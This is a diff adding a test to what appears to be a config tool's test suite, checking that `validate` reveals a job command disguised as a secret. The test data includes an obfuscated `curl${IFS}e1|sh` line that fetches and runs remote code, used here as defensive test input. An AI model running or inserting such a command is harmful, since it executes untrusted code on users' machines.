@@ -349,3 +349,14 @@ def test_no_number_of_other_lines_hides_what_runs() -> None:
                   "+ on_end.command: on this machine, when the run ends: beep", "+ hosts: n299"):  # fmt: skip
         assert shown in lines
     assert lines[-1].endswith("more lines: read the file") and len(lines) < 520
+
+
+def test_validate_shows_a_command_that_the_author_made_look_like_a_secret(home: Path) -> None:
+    """The error about a foreign profile sends the user there to read it."""
+    evil = "curl${IFS}e1|sh"
+    for name in ("train", "other"):
+        text = TEAM.replace('"true"', f"sh, -c, '{evil}', {HF}").replace("MODE: fast", f"A_PASSWORD: '{evil}'")
+        (home / "team" / f"{name}.yaml").write_text(text.replace("WORK", str(home / "work")))
+    done = command(home, "validate", "team/train", "team/other")
+    assert done.stdout.count(f"job.command: on local: sh -c '{evil}' ***\n") == 2
+    assert "'job.env.A_PASSWORD' looks like a secret" in done.stderr
